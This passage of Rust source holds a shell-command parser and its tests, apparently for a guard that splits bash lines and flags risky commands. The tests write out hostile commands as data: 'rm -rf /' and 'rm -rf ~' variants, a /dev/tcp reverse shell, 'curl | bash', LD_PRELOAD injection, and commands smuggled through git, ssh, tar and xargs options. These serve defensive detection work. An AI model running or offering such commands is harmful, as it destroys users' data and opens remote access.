                .bytes()
                .any(|b| (b < 0x20 && b != b'\t' && b != b'\n') || b == 0x7f);
            if bad_control || (quote == b'"' && inner.bytes().any(|b| b"\\$`".contains(&b))) {
                return None;
            }
            Some(open + 1 + len + 1)
        }

        /// A token must end at a blank, an operator or the end of the line.
        fn at_boundary(&self, at: usize) -> bool {
            matches!(
                self.byte(at),
                None | Some(b' ' | b'\t' | b';' | b'&' | b'|')
            )
        }

        fn next(&mut self) -> Option<Token<'a>> {
            self.skip_blanks();
            let start = self.pos;
            let Some(b) = self.byte(start) else {
                return Some(Token::End);
            };
            let next = self.byte(start + 1);
            let (token, len) = match (b, next) {
                (b'&', Some(b'&')) => (Token::AndAnd, 2),
                (b'|', Some(b'|')) => (Token::OrOr, 2),
                (b'|', Some(b'&')) | (b'&', _) | (b';', Some(b';' | b'&')) => return None,
                (b'|', _) => (Token::Pipe, 1),
                (b';', _) => (Token::Semi, 1),
                (b'\'' | b'"', _) => {
                    let end = self.quoted_end(start)?;
                    let value = self.src.get(start + 1..end - 1)?;
                    let word = Word {
                        start,
                        end,
                        value: Some(value),
                        assigned: None,
                        plain: false,
                    };
                    (Token::Word(word), end - start)
                }
                _ if is_plain(b) => {
                    let mut end = start;
                    while self.byte(end).is_some_and(is_plain) {
                        end += 1;
                    }
                    let run = self.src.get(start..end)?;
                    // `x ==` ends in an error in tree-sitter-bash (a test operator), `x == y`
                    // does not: leave operator-like words to it.
                    if run.starts_with("==") || run.starts_with("=~") {
                        return None;
                    }
                    let word = match self.byte(end) {
                        // `NAME='value'`: an assignment of a quoted value.
                        Some(b'\'' | b'"') => {
                            if assignment_prefix(run) != Some(run.len()) {
                                return None;
                            }
                            let close = self.quoted_end(end)?;
                            Word {
                                start,
                                end: close,
                                value: None,
                                assigned: Some(self.src.get(end + 1..close - 1)?),
                                plain: false,
                            }
                        }
                        _ => Word {
                            start,
                            end,
                            value: Some(run),
                            assigned: None,
                            plain: true,
                        },
                    };
                    let len = word.end - start;
                    (Token::Word(word), len)
                }
                _ => return None,
            };
            self.pos = start + len;
            if matches!(token, Token::Word(_)) && !self.at_boundary(self.pos) {
                return None;
            }
            Some(token)
        }
    }

    /// Split `src` if it is a plain line; None sends it to tree-sitter.
    pub(super) fn parse(src: &str) -> Option<Line<'_>> {
        if src.len() > MAX_BYTES {
            return None;
        }
        let mut scanner = Scanner { src, pos: 0 };
        let mut line: Line<'_> = Vec::new();
        let mut commands = 0;
        let mut token = scanner.next()?;
        loop {
            // A statement: pipelines joined by `&&` / `||`.
            let mut chain = Vec::new();
            loop {
                let mut pipeline = Vec::new();
                loop {
                    let (command, after) = command(&mut scanner, token)?;
                    commands += 1;
                    if commands > MAX_COMMANDS {
                        return None;
                    }
                    pipeline.push(command);
                    token = after;
                    if !matches!(token, Token::Pipe) {
                        break;
                    }
                    token = scanner.next()?;
                }
                chain.push(pipeline);
                if !matches!(token, Token::AndAnd | Token::OrOr) {
                    break;
                }
                token = scanner.next()?;
            }
            // tree-sitter-bash reads `a | b | c && d` as `a | (b | c && d)`: a chain with a
            // pipeline of three or more commands is left to it.
            if chain.len() > 1 && chain.iter().any(|p| p.len() > 2) {
                return None;
            }
            line.push(chain);
            if matches!(token, Token::Semi) {
                token = scanner.next()?;
            }
            match token {
                Token::End => return Some(line),
                Token::Word(_) => {}
                _ => return None,
            }
        }
    }

    /// One command starting at `token`; returns it and the token after it.
    fn command<'a>(
        scanner: &mut Scanner<'a>,
        mut token: Token<'a>,
    ) -> Option<(Command<'a>, Token<'a>)> {
        let mut command = Command {
            assignments: Vec::new(),
            words: Vec::new(),
            text: "",
        };
        let (mut start, mut end) = (None, 0);
        while let Token::Word(w) = token {
            start.get_or_insert(w.start);
            end = w.end;
            if command.words.is_empty() {
                let assigned = match (w.assigned, w.value) {
                    (Some(value), _) => Some(value),
                    (None, Some(run)) if w.plain => {
                        assignment_prefix(run).and_then(|n| run.get(n..))
                    }
                    _ => None,
                };
                if let Some(value) = assigned {
                    let text = scanner.src.get(w.start..w.end)?;
                    command.assignments.push((text, value));
                } else {
                    let value = w.value?;
                    if KEYWORDS.contains(&value) || (w.plain && !is_plain_name(value)) {
                        return None;
                    }
                    command.words.push(value);
                }
            } else {
                command.words.push(w.value?);
            }
            token = scanner.next()?;
        }
        if command.words.is_empty() {
            return None;
        }
        command.text = scanner.src.get(start?..end)?;
        Some((command, token))
    }

    /// How deep the walk over tree-sitter's tree for `line` nests, program node included:
    /// `a && b && c` is `(list (list a b) c)`, a pipeline of several commands one node more.
    pub(super) fn depth(line: &Line<'_>) -> u32 {
        let chains = line.iter().map(|chain| {
            let pipes = chain.iter().map(|p| if p.len() > 1 { 2 } else { 1 });
            (chain.len() - 1) + pipes.max().unwrap_or(0)
        });
        1 + chains.max().unwrap_or(0) as u32
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(cmd: &str) -> Vec<String> {
        parse(cmd)
            .commands
            .iter()
            .map(|c| canon::canonical_text(&c.words))
            .collect()
    }

    #[test]
    fn splits_and_unwraps() {
        let cases: &[(&str, &[&str])] = &[
            ("ls -la && rm -rf /", &["ls -a -l", "rm -f -r /"]),
            (
                "sudo -u root env FOO=1 nice -n 5 rm -rf /",
                &["sudo -u root", "rm -f -r /"],
            ),
            ("bash -c 'rm -rf /'", &["rm -f -r /"]),
            ("sh -lc \"git push --force\"", &["git push -f"]),
            ("eval \"rm -rf ~\"", &["rm -f -r ~", "eval"]),
            ("r''m -rf /", &["rm -f -r /"]),
            ("\\rm -rf /", &["rm -f -r /"]),
            ("FOO=1 /bin/rm  -rf /", &["rm -f -r /"]),
            ("echo $(rm -rf /)", &["rm -f -r /", "echo '$(rm -rf /)'"]),
            (
                "find . -name '*.o' -exec rm -f {} \\;",
                &["rm -f {}", "find . -name *.o -exec rm -f {} ;"],
            ),
            ("xargs -0 rm -rf", &["rm -f -r"]),
            ("timeout 10 cargo test", &["cargo test"]),
            ("git commit -m 'rm -rf /'", &["git commit -m 'rm -rf /'"]),
            ("echo hi > ~/.bashrc", &["echo hi >~/.bashrc"]),
            (
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                &["bash -i >/dev/tcp/10.0.0.1/4444"],
            ),
            ("ls 2>&1 >/dev/null", &["ls >/dev/null"]),
            ("GIT_PAGER='rm -rf ~' git log", &["rm -f -r ~", "git log"]),
            ("psql <<< 'DROP TABLE x'", &["psql 'DROP TABLE x'"]),
            (
                "ssh host 'rm -rf /'",
                &["rm -f -r /", "ssh host 'rm -rf /'"],
            ),
            ("bash <<EOF\nrm -rf /\nEOF", &["rm -f -r /", "bash"]),
            (
                "echo 'rm -rf /' | sh",
                &["echo 'rm -rf /'", "rm -f -r /", "sh"],
            ),
            ("{ rm -rf /; }", &["rm -f -r /"]),
            ("f() { rm -rf /; }; f", &["rm -f -r /", "f"]),
        ];
        let mut bad = Vec::new();
        for (cmd, want) in cases {
            if names(cmd) != *want {
                bad.push(format!("{cmd:?}: got {:?}", names(cmd)));
            }
        }
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    /// Every simple command bash runs is in the parse: the rest of a line after a heredoc,
    /// heredoc bodies that reach a shell, xargs/parallel templates with their input, array
    /// subscripts, commands run by options.
    #[test]
    fn nothing_the_shell_runs_is_dropped() {
        let cases: &[(&str, &[&str])] = &[
            ("cat <<EOF | bash\nrm -rf ~\nEOF", &["rm -f -r ~", "bash"]),
            (
                "timeout 5 cat <<EOF | sh\nrm -rf ~\nEOF",
                &["rm -f -r ~", "sh"],
            ),
            (
                "cat <<EOF && rm -rf ~\nhello\nEOF",
                &["cat 'hello\n'", "rm -f -r ~"],
            ),
            (
                "cat <<EOF || rm -rf ~ && ls\nhi\nEOF",
                &["rm -f -r ~", "ls"],
            ),
            (
                "cat <<EOF > /tmp/p.sh && bash /tmp/p.sh\nrm -rf ~\nEOF",
                &[
                    "cat 'rm -rf ~\n' >/tmp/p.sh",
                    "rm -f -r ~",
                    "bash /tmp/p.sh",
                ],
            ),
            ("cat <<'X' | psql\nDROP TABLE t;\nX", &["psql"]),
            (
                "cat <<EOF | bash | tee log && echo ok\nrm -rf ~\nEOF",
                &["rm -f -r ~", "tee log", "echo ok"],
            ),
            ("echo 'x' > a.sh; sh a.sh", &["x"]),
            ("printf 'rm -rf ~' > a.sh && . a.sh", &["rm -f -r ~"]),
            ("echo 'rm -rf /' | xargs -I{} bash -c {}", &["rm -f -r /"]),
            ("echo 'rm -rf /' | parallel bash -c {}", &["rm -f -r /"]),
            ("parallel bash -c {} ::: 'rm -rf /'", &["rm -f -r /"]),
            ("echo / | xargs rm -rf", &["rm -f -r /"]),
            ("xargs -i rm {} < list", &["rm {}"]),
            (
                "echo / | xargs --replace= sh -c 'rm -rf {}'",
                &["rm -f -r /"],
            ),
            ("echo / | xargs -J % rm -rf %", &["rm -f -r /"]),
            ("parallel ::: 'rm -rf /'", &["rm -f -r /"]),
            ("env - rm -rf /", &["rm -f -r /"]),
            ("env -P /usr/bin rm -rf /", &["rm -f -r /"]),
            ("printf -v 'a[$(rm -rf ~)]' x", &["rm -f -r ~"]),
            ("read 'a[`rm -rf ~`]' <<< 1", &["rm -f -r ~"]),
            ("declare 'a[$(rm -rf ~)]=1'", &["rm -f -r ~"]),
            ("git -c core.pager='rm -rf ~' log", &["rm -f -r ~"]),
            ("git -c alias.x='!rm -rf ~' x", &["rm -f -r ~"]),
            ("git bisect run rm -rf ~", &["rm -f -r ~"]),
            ("git fetch --upload-pack='rm -rf ~' origin", &["rm -f -r ~"]),
            ("go test -exec 'rm -rf ~' ./...", &["rm -f -r ~"]),
            ("go build -toolexec=/tmp/x .", &["x"]),
            (
                "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"rm -rf ~\"' run",
                &["rm -f -r ~"],
            ),
            ("sort --compress-program=/tmp/evil big.txt", &["evil"]),
            ("tar --to-command='rm -rf ~' -xf a.tar", &["rm -f -r ~"]),
            ("tar -I 'rm -rf ~' -xf a.tar", &["rm -f -r ~"]),
            ("rsync -e 'rm -rf ~' a b:", &["rm -f -r ~"]),
            ("ssh -o ProxyCommand='rm -rf ~' host", &["rm -f -r ~"]),
            ("ssh -oProxyCommand='rm -rf ~' host", &["rm -f -r ~"]),
            ("vim -c '!rm -rf ~' x", &["rm -f -r ~"]),
            ("vim '+!rm -rf ~' x", &["rm -f -r ~"]),
            ("find . -exec sh -c 'rm -rf ~' \\;", &["rm -f -r ~"]),
            ("diff <(rm -rf ~) x", &["rm -f -r ~"]),
            (
                "TERRAPHIM_GUARD_KG=/tmp/kg git status",
                &["export TERRAPHIM_GUARD_KG="],
            ),
        ];
        let mut bad = Vec::new();
        for (cmd, want) in cases {
            let got = names(cmd);
            for w in *want {
                if !got.iter().any(|g| g == w) {
                    bad.push(format!("{cmd:?}: {w:?} missing from {got:?}"));
                }
            }
        }
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    #[test]
    fn input_of_unknown_text_into_a_shell_is_a_finding() {
        for cmd in [
            "cat list | xargs -I{} sh -c '{}'",
            "xargs -a cmds.txt bash -c",
        ] {
            let p = parse(cmd);
            assert!(
                p.commands
                    .iter()
                    .any(|c| c.findings.contains(&Finding::CodeFromInput)),
                "{cmd:?}: {:?}",
                p.commands
            );
        }
        for cmd in [
            "printf 'all:\\n\\ttrue' > Makefile && make",
            "echo '{}' > package.json; npm test",
            "cp /tmp/c.py conftest.py && pytest",
        ] {
            let p = parse(cmd);
            assert!(
                p.commands
                    .iter()
                    .any(|c| c.findings.contains(&Finding::RunsWrittenFile)),
                "{cmd:?}"
            );
        }
        for cmd in ["make && echo ok > Makefile.log", "npm test > out.txt"] {
            let p = parse(cmd);
            assert!(
                p.commands
                    .iter()
                    .all(|c| !c.findings.contains(&Finding::RunsWrittenFile)),
                "{cmd:?}"
            );
        }
        assert!(
            parse("export BASH_ENV=/tmp/x")
                .commands
                .iter()
                .any(|c| c.findings.contains(&Finding::EnvInjection))
        );
        assert!(
            parse("git -c core.hooksPath=/tmp/h commit -m x")
                .commands
                .iter()
                .any(|c| c.findings.contains(&Finding::EnvInjection))
        );
    }

    /// tree-sitter-bash's scanner crashes on `{` followed by a code point above U+00FF
    /// (tree-sitter-bash#337); the mapped input parses to the same commands.
    #[test]
    fn high_code_points_after_a_brace_do_not_crash() {
        for c in [
            '\u{E0100}',
            '\u{10FFFF}',
            '\u{2013}',
            '\u{3000}',
            '\u{100}',
            '\u{FFFD}',
        ] {
            for template in [
                "echo {C",
                "echo {12C",
                "echo {1..2C}",
                "ls {C,b} && rm -rf {C",
                "cat <<{C\nx\n{C\n",
                "x={C; echo \"{C\"",
            ] {
                let cmd = template.replace('C', &c.to_string());
                let p = parse(&cmd);
                assert!(!p.commands.is_empty(), "{cmd:?}");
                let words: Vec<String> = p.commands.iter().flat_map(|c| c.argv.clone()).collect();
                // Words come from the original text, not the mapped one.
                assert!(
                    words.iter().all(|w| !w.contains('\u{7f}')),
                    "{cmd:?}: {words:?}"
                );
            }
        }
        assert_eq!(names("rm -rf {\u{E0100}"), ["rm -f -r {\u{E0100}"]);
        assert_eq!(grammar_safe("echo é{x"), "echo é{x");
        assert_eq!(grammar_safe("a{\u{E0100}b").len(), "a{\u{E0100}b".len());
    }

    #[test]
    fn values_stay_with_their_flags() {
        for (cmd, want) in [
            ("curl -sS -m3 http://x", "curl -S -s -m 3 http://x"),
            ("curl -sS -m 3 http://x", "curl -S -s -m 3 http://x"),
            ("curl -m 3 -sS http://x", "curl -m 3 -S -s http://x"),
            ("tail -fn 20 log", "tail -f -n 20 log"),
            ("rm -fr /", "rm -f -r /"),
        ] {
            assert_eq!(names(cmd), [want], "{cmd:?}");
        }
    }

    #[test]
    fn findings() {
        assert_eq!(
            parse("$X -rf /").commands[0].findings,
            [Finding::DynamicName]
        );
        assert_eq!(
            parse("curl x | bash").commands[1].findings,
            [Finding::PipeIntoShell]
        );
        assert_eq!(
            parse("bash -c \"$CODE\"").commands[0].findings,
            [Finding::DynamicCode]
        );
        assert_eq!(
            parse("bash <(curl x)")
                .commands
                .last()
                .map(|c| c.findings.clone()),
            Some(vec![Finding::ProcessSubstitutionIntoShell])
        );
        assert!(parse("if then fi ((").findings.contains(&Finding::Unparsed));
        assert_eq!(
            parse("LD_PRELOAD=/tmp/x.so ls").commands[0].findings,
            [Finding::EnvInjection]
        );
        assert_eq!(
            parse("env LD_PRELOAD=/tmp/x.so ls").commands[0].findings,
            [Finding::EnvInjection]
        );
        assert!(parse("FOO=1 ls").commands[0].findings.is_empty());
    }

    /// The plain-line parser must change nothing: every line, plain or not, parses the same
    /// with and without it.
    #[track_caller]
    fn same_as_tree_sitter(line: &str) {
        let fast = format!("{:?}", parse_with(line, true));
        let slow = format!("{:?}", parse_with(line, false));
        assert_eq!(fast, slow, "line {line:?}");
    }

    #[test]
    fn plain_lines_skip_tree_sitter() {
        for line in [
            "git status",
            "cd /work/project && FOO=1 timeout 60 cargo test -p x --release -- --nocapture | tail -n 20",
            "sudo env X=1 bash -c 'git status && rm -rf /tmp/build; echo \"done\" | tee log.txt'",
            "rm -rf --no-preserve-root /",
            "GIT_PAGER='rm -rf ~' git log",
            "a; b;",
            "a | b | c; d && e | f",
        ] {
            assert!(plain::parse(line).is_some(), "{line:?}");
            same_as_tree_sitter(line);
        }
        for line in [
            "",
            ";",
            "a;;",
            "a &",
            "a |& b",
            "a && ",
            "| a",
            "x=1",
            "if true",
            "export X=1",
            "echo $HOME",
            "echo a'b'",
            "echo 'a'b",
            "echo \"$x\"",
            "ls > f",
            "a\nb",
            "echo {a,b}",
            "echo \\x",
            "# c",
            "a=b=c",
            "1x=2 ls",
            "echo 'unclosed",
            "t@example.com",
            "a | b | c && d",
            "x | 'y' | z || w",
            "a && b | c | d",
            "- A=1",
            "X=1 a:b",
            "_= bash",
        ] {
            assert!(plain::parse(line).is_none(), "{line:?}");
            same_as_tree_sitter(line);
        }
    }

    #[test]
    fn plain_lines_nest_as_deep_as_tree_sitter() {
        // The walk's node depth limit must trip at the same place with and without tree-sitter.
        for k in (0..=200).step_by(1) {
            let open = "(".repeat(k);
            let close = ")".repeat(k);
            same_as_tree_sitter(&format!("{open}bash -c 'a && b | c && d; e'{close}"));
            same_as_tree_sitter(&format!("{open}eval 'a || b | c'{close}"));
        }
        let chain = |n: usize| vec!["a"; n].join(" && ");
        for n in [1, 2, 63, 64, 65, 200] {
            same_as_tree_sitter(&chain(n));
            same_as_tree_sitter(&format!("bash -c '{}'", chain(n)));
        }
    }

    fn token() -> impl proptest::strategy::Strategy<Value = String> {
        use proptest::prelude::*;
        let fixed = prop::sample::select(vec![
            "sudo",
            "env",
            "bash",
            "sh",
            "-c",
            "-lc",
            "timeout",
            "60",
            "git",
            "rm",
            "-rf",
            "/",
            "~",
            "~/x",
            "*",
            "./*",
            "..",
            "X=1",
            "GIT_PAGER=",
            "GIT_PAGER=less",
            "LD_PRELOAD=x",
            "FOO+=1",
            "=x",
            "1A=b",
            "a=b=c",
            "eval",
            "xargs",
            "ssh",
            "host",
            "watch",
            "find",
            "-exec",
            "echo",
            "printf",
            "tee",
            "su",
            "nice",
            "-n",
            "command",
            "exec",
            "busybox",
            "python3",
            "psql",
            "if",
            "then",
            "fi",
            "for",
            "in",
            "do",
            "done",
            "case",
            "esac",
            "while",
            "until",
            "select",
            "function",
            "time",
            "export",
            "local",
            "declare",
            "readonly",
            "typeset",
            "unset",
            "coproc",
            "--",
            "-",
            "--x=2",
            "-1",
            "0x10",
            "1.5",
            "a,b",
            "a:b",
            "a%b",
            "a+b",
            "x.y/z",
            "CC=gcc",
            "EDITOR=vim",
            "PAGER='less -R'",
            "X=\"a b\"",
            "X=''",
            "X=\"\"",
            "''",
            "\"\"",
            "'rm'",
            "\"rm\"",
            "==",
            "=~",
            "!=",
            "-eq",
            "a==b",
            "a:",
            "1:",
            "a:b",
            "X=1 a:b",
            "- A=1",
            "_=",
            "_=x",
            "__=1",
            "_A=1",
            "]]",
            "[[",
            "x%",
            "a@b",
        ])
        .prop_map(str::to_string);
        let plain = "[a-z0-9_./:%+,=~*@^!?#{}\\[\\]-]{1,6}";
        let quoted = "[a-z ;|&$`\"\\\\\n\t<>(){}#!~*é\u{2013}\u{a0}]{0,8}"
            .prop_map(|s| format!("'{}'", s.replace('\'', "")));
        let dquoted = "[a-z ;|&$`'\\\\\n\t<>(){}#!~*é\u{2013}]{0,8}"
            .prop_map(|s| format!("\"{}\"", s.replace('"', "")));
        prop_oneof![4 => fixed, 3 => plain.prop_map(|s| s), 1 => quoted, 1 => dquoted]
    }

    fn separator() -> impl proptest::strategy::Strategy<Value = &'static str> {
        proptest::sample::select(vec![
            " ", " ", " ", "  ", "\t", ";", " ; ", "&&", " && ", "||", " || ", "|", " | ", "&",
            "\n", "", ";;", "|&", " >", "<", "(", ")", "$", "\\", "#", "\r",
        ])
    }

    fn line() -> impl proptest::strategy::Strategy<Value = String> {
        use proptest::prelude::*;
        prop::collection::vec((token(), separator()), 1..12).prop_map(|parts| {
            parts
                .into_iter()
                .map(|(t, s)| format!("{t}{s}"))
                .collect::<String>()
        })
    }

    proptest::proptest! {
        // PROPTEST_CASES=200000 for a long run.
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(
            std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(4096)
        ))]

        #[test]
        fn plain_parse_is_tree_sitter_parse(l in line(), pre in line(), nested in line()) {
            same_as_tree_sitter(&l);
            same_as_tree_sitter(l.trim_end());
            // Code nested in strings is parsed again, maybe plain inside a line that is not.
            let inner = nested.replace('\'', "");
            same_as_tree_sitter(&format!("{pre} bash -c '{inner}'"));
            same_as_tree_sitter(&format!("sudo env A=1 sh -c '{inner}' | {l}"));
        }
    }
}
